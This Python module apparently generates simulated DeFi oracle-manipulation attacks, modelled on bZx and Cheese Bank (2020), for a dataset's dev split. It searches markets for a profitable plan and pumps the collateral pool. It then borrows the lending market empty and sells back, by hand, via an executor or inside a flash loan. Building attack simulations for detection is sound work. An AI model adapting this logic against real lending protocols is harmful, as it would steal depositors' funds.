"""Spot-price oracle manipulation: move a pool, borrow against its price (bZx 2020, Cheese Bank 2020)."""

from __future__ import annotations

from pipelines.simulation.attacks.family import Family
from pipelines.simulation.attacks.incident import (
    Incident,
    attacker,
    home,
    leave,
    run_flash,
    run_script,
    run_steps,
    runner,
)
from pipelines.simulation.bytecode import SELF, Step
from pipelines.simulation.engine import Account
from pipelines.simulation.world import DEADLINE, ETH, FOREVER, Part, Place, Session, World, amount_out, step

Plan = tuple[Place, int, int, int, int]
"""(market, WETH spent on collateral, collateral deposited, debt borrowed, collateral sold back)."""


def plan(world: World, *, most: int) -> Plan | None:
    """Return one of the plans that pay, over all markets that lend WETH, spending at most `most` wei."""
    options: list[Plan] = []
    for place in world.places["market"]:
        collateral, debt = place.tokens
        if debt is not world.weth or collateral.kind == "fee_token":
            continue
        cash = world.view("market", place.address, "cash")
        factor = world.view("market", place.address, "factor")
        pool = world.reserves(world.weth, collateral)
        for scale in (0.5, 0.8, 1.2, 1.8, 2.6, 4.0, 6.0):
            found = _evaluate(pool, cash, factor, int(pool[0] * scale))
            if found is not None and found[0] > ETH // 2 and int(pool[0] * scale) <= most:
                options.append((place, int(pool[0] * scale), *found[1:]))
    if not options:
        return None
    return options[int(world.rng.integers(len(options)))]


def _evaluate(pool: tuple[int, int], cash: int, factor: int, spent: int) -> tuple[int, int, int, int] | None:
    """Return (gain, deposit, borrowed, sold back) of spending `spent` WETH, None if impossible."""
    weth, other = pool
    bought = amount_out(spent, weth, other)
    new_weth, new_other = weth + spent, other - bought
    borrowed = cash * 97 // 100
    deposit = borrowed * 103 * new_other // new_weth // factor
    if deposit <= 0 or deposit >= bought * 97 // 100 or borrowed == 0:
        return None
    back = (bought - deposit) * 98 // 100
    returned = amount_out(back, new_other, new_weth)
    return borrowed + returned - spent - spent // 1000, deposit, borrowed, back


def oracle_manipulation(world: World, incident: Incident) -> Session:
    """Pump the collateral's pool, borrow the market empty against it, sell the rest back."""
    own_money = world.chance(0.4)
    most = (700 if own_money else 3000) * ETH
    found = plan(world, most=most)
    if found is None:
        return
    who = yield from attacker(world, incident, found[1] / ETH * 1.05 if own_money else 1.0)
    incident.variant.append("own-money" if own_money else "flash-loan")
    draw = world.rng.random()
    if own_money:
        most = found[1]
    if own_money and draw < 0.5:
        yield from _by_hand(world, incident, who, most)
    elif not own_money and draw < 0.4:
        yield from _by_script(world, incident, who, most)
    else:
        yield from _by_executor(world, incident, who, most, own_money=own_money)
    incident.finish()
    yield from leave(world, incident, who)


def _by_executor(world: World, incident: Incident, who: Account, most: int, *, own_money: bool) -> Part:
    """All steps in one transaction of an executor, with own money or inside a flash loan."""
    tool = yield from runner(world, incident, who)
    found = plan(world, most=most)
    if found is None:
        return
    steps = _steps(world, found, tool.address)
    if own_money:
        steps.insert(0, step("weth", world.weth.address, "deposit", value=found[1]))
        yield from run_steps(world, incident, who, tool, steps)
    else:
        yield from run_flash(world, incident, who, tool, steps, found[1])
    yield from home(world, incident, who, tool)


def _steps(world: World, found: Plan, me: bytes) -> list[Step]:
    place, spent, deposit, borrowed, back = found
    collateral, weth = place.tokens[0].address, world.weth.address
    router = world.the("router").address
    swap = "swapExactTokensForTokens"
    return [
        step("token", weth, "approve", router, FOREVER),
        step("router", router, swap, spent, 1, [weth, collateral], me, DEADLINE),
        step("token", collateral, "approve", place.address, deposit),
        step("market", place.address, "deposit", deposit),
        step("market", place.address, "borrow", borrowed),
        step("token", collateral, "approve", router, back),
        step("router", router, swap, back, 1, [collateral, weth], me, DEADLINE),
    ]


def _by_script(world: World, incident: Incident, who: Account, most: int) -> Part:
    """A contract written for this attack borrows and repays by itself; a stale one is made anew."""
    incident.variant.append("script")
    lender = world.pick(world.places["flash_lender"]).address
    weth = world.weth.address
    for _ in range(6):
        found = plan(world, most=most)
        if found is None:
            return
        loan = found[1]
        inner = [*_steps(world, found, SELF), step("token", weth, "approve", lender, loan * 2)]
        outer = [step("flash_lender", lender, "flashLoan", SELF, weth, loan, b"")]
        done = yield from run_script(world, incident, who, outer, inner=inner)
        if done:
            return


def _by_hand(world: World, incident: Incident, who: Account, most: int) -> Part:
    """Four ordinary-looking transactions: buy, deposit, borrow, sell."""
    incident.variant.append("by-hand")
    found = plan(world, most=most)
    if found is None:
        return
    place, spent, deposit, _, _ = found
    collateral = place.tokens[0]
    router = world.the("router").address
    path = [world.weth.address, collateral.address]
    buy = ("swapExactETHForTokens", 1, path, who.address, DEADLINE)
    for token, spender in ((collateral, place.address), (collateral, router)):
        yield incident.call("prep", who, "token", token.address, "approve", spender, FOREVER)
    yield incident.call("exploit", who, "router", router, *buy, value=spent)
    yield incident.call("exploit", who, "market", place.address, "deposit", deposit)
    limit = world.view("market", place.address, "limit", who.address)
    cash = world.view("market", place.address, "cash")
    yield incident.call("exploit", who, "market", place.address, "borrow", min(limit * 99 // 100, cash))
    rest = world.held(collateral, who.address)
    path = [collateral.address, world.weth.address]
    call = ("swapExactTokensForETH", rest, 1, path, who.address, DEADLINE)
    yield incident.call("exploit", who, "router", router, *call)


FAMILIES = (
    Family(
        name="oracle_manipulation",
        tier="mimicry",
        split="dev",
        modelled_on="bZx and Cheese Bank (2020)",
        about="Pump the pool that prices a market's collateral, borrow the market empty against it, "
        "sell back.",
        run=oracle_manipulation,
    ),
)
